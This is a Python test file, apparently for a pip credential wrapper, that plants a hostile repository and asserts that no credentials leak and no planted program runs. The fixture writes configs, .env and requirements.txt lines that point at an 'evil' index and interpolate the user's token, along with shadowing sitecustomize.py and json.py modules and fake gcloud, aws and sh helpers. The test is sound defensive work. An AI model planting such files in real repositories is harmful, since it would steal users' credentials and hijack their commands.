"""P6, A16, A17, A18: pip is run within a repository that wants the user's credentials: nothing runs, nothing is sent.

By the command `authpip`: `python -m` looks into the working directory before any code of ours, as for `python -m pip`.
"""

from __future__ import annotations

import json
import os
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from support.leaks.canary import new_canary
from support.programs import pip_venvs
from support.programs.pip_venvs import PipVenv
from support.samples import packages
from support.servers.index_server import IndexServer, basic

pytestmark = pytest.mark.real

HELPERS = ("gcloud", "aws", "az", "keyring", "chainctl", "cloudsmith", "show", "sh", "python3")
RULE = """
[[index]]
url = "{evil}"
provider = "command"
[index.command]
run = "{canary}"
"""


@pytest.fixture(scope="module")
def shared_venv(tmp_path_factory: pytest.TempPathFactory) -> PipVenv:
    """One environment with the newest pip and the wheel under test."""
    return pip_venvs.make(tmp_path_factory.mktemp("venv") / "venv", pip_venvs.PYTHON, "26.3", authpip=True)


def plant(project: Path, evil: str, canary: Path, good: str) -> None:
    """Everything a repository could hold to get at the user's credentials."""
    run_canary = f'#!/bin/sh\necho "$0 $*" >> {canary}\necho stolen\n'
    rule = RULE.format(evil=evil, canary=project / "show")
    netrc = f"machine 127.0.0.1 login planted password planted\nmachine {evil.split('/')[2]} login a password b\n"
    files = {
        "authpip.toml": rule,
        ".authpip.toml": rule,
        "config.toml": rule,
        ".config/authpip/config.toml": rule,
        "authpip/config.toml": rule,
        "pyproject.toml": f"[tool.authpip]\n{rule.replace('[[index]]', '[[tool.authpip.index]]')}[tool.uv]\nx = 1\n",
        "setup.cfg": f"[easy_install]\nindex_url = {evil}\n[authpip]\nrun = show\n",
        "pip.conf": f"[global]\nindex-url = {evil}\n",
        "pip.ini": f"[global]\nindex-url = {evil}\n",
        ".env": f"AUTHPIP_INDEX_CORP_URL={evil}\nPIP_INDEX_URL={evil}\n"
        f"AUTHPIP_CONFIG={project}/authpip.toml\nPATH={project}\n",
        ".pypirc": f"[evil]\nrepository = {evil}\nusername = x\npassword-command = show\n",
        ".netrc": netrc,
        "_netrc": netrc,
        ".rattler/credentials.json": json.dumps({"127.0.0.1": {"BearerToken": "planted"}}),
        "requirements.txt": f"--extra-index-url {good}\n--extra-index-url {evil}\n"
        f"--extra-index-url {evil}${{CORP_TOKEN}}/\nthing\n",
        "sitecustomize.py": f"open({str(canary)!r}, 'a').write('sitecustomize')\n",
        "authpip/__init__.py": f"open({str(canary)!r}, 'a').write('authpip')\n",
        "json.py": f"open({str(canary)!r}, 'a').write('json')\n",
    }
    for name, text in files.items():
        path = project / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        path.chmod(0o600)
    for directory in (project, project / "bin", project / ".venv" / "bin"):
        directory.mkdir(parents=True, exist_ok=True)
        for name in HELPERS:
            (directory / name).write_text(run_canary)
            (directory / name).chmod(0o755)


@pytest.fixture
def hostile(
    environment: dict[str, str],
    home: Path,
    serve: Callable[..., IndexServer],
    shared_venv: PipVenv,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
):
    """hostile(*pip arguments, **variables) → (the finished process, the user's index, the evil one, canary file)."""
    good, evil, secret, canary = serve(), serve(), new_canary(), tmp_path / "canary.log"
    good.add("/team/simple", [packages.wheel(tmp_path / "good", "thing")], username="alice", password=secret.secret)
    evil.add("/simple", [packages.wheel(tmp_path / "evil", "other")])
    project = tmp_path / "project"
    plant(project, evil.url("/simple/"), canary, good.url("/team/simple/"))
    config = home / ".config/authpip/config.toml"
    config.parent.mkdir(parents=True, exist_ok=True, mode=0o700)
    config.write_text(
        f'[[index]]\nname = "corp"\nurl = "{good.url("/team/")}"\nusername = "alice"\nprovider = "token"\n'
        '[index.token]\nvariable = "CORP_TOKEN"\n'
    )
    config.chmod(0o600)
    trees = os.pathsep.join(str(project / name) for name in ("", "bin", ".venv/bin"))
    environ = {name: value for name, value in environment.items() if name not in {"NETRC", "PYTHONPATH"}}
    environ |= good.environ | {"CORP_TOKEN": secret.secret, "PATH": f".::{trees}:{environment['PATH']}"}
    if "PYTHONPATH" in environment:
        environ["PYTHONPATH"] = environment["PYTHONPATH"]
    monkeypatch.chdir(project)

    def run(*arguments: str, **variables: str):
        argv = [f"{shared_venv.scripts}/authpip", *arguments]
        done = subprocess.run(argv, env={**environ, **variables}, capture_output=True, text=True, check=False)
        return done, good, evil, secret, canary

    return run


def test_nothing_runs_and_nothing_is_sent(hostile, tmp_path: Path) -> None:
    """The user's own index gets its credential; the repository's gets none, neither by header nor by ${VARIABLE}."""
    target = ("--no-deps", "--target", str(tmp_path / "t"))
    done, good, evil, secret, canary = hostile(
        "install", *target, "--retries", "0", "-i", "https://127.0.0.1:9/", "-r", "requirements.txt"
    )
    assert done.returncode == 0, done.stderr
    assert not canary.exists(), canary.read_text()
    assert {seen.authorization for seen in good.requests} == {basic("alice", secret.secret)}
    assert evil.requests
    assert {seen.authorization for seen in evil.requests} == {None}
    assert not [seen for seen in evil.requests if secret.find_in(repr((seen.path, seen.headers, seen.body)))]
    assert not secret.find_in(done.stdout + done.stderr)


@pytest.mark.parametrize(
    "url", ["https://europe-west1-python.pkg.dev/p/r/simple/", "https://libraries.cgr.dev/python/simple/"]
)
def test_no_planted_helper_runs(hostile, url: str) -> None:
    """A known cloud host in the repository's requirements starts no planted helper."""
    done, good, evil, _, canary = hostile(
        "download", "-i", url, "--retries", "0", "thing", PIP_PROXY="http://127.0.0.1:9"
    )
    assert done.returncode != 0
    assert not canary.exists(), canary.read_text()
    assert good.requests == evil.requests == []


@pytest.mark.parametrize(
    "words", [["config", "show"], ["config", "check"], ["list"], ["explain", "install", "-r", "requirements.txt"]]
)
def test_the_commands_read_nothing_of_it(hostile, words: list[str]) -> None:
    """No command takes a rule or a program from the repository."""
    done, good, evil, _, canary = hostile("auth", *words)
    assert done.returncode in {0, 1}, done.stderr
    assert "planted" not in done.stdout + done.stderr
    assert not canary.exists(), canary.read_text()
    assert good.requests == evil.requests == []


def test_exec_takes_only_what_is_asked_for(hostile, tmp_path: Path) -> None:
    """`auth exec` within it reads no .env unless told to, and even then no rule, program or file location from it."""
    for options in ((), ("--env-file", ".env")):
        done, good, evil, _, canary = hostile("auth", "exec", *options, "--", "/usr/bin/env")
        assert done.returncode == 0, done.stderr
        lines = [line for line in done.stdout.splitlines() if line.startswith(("AUTHPIP_", "PATH="))]
        assert not [line for line in lines if line.startswith("AUTHPIP_")]
        assert not canary.exists()
        assert good.requests == evil.requests == []
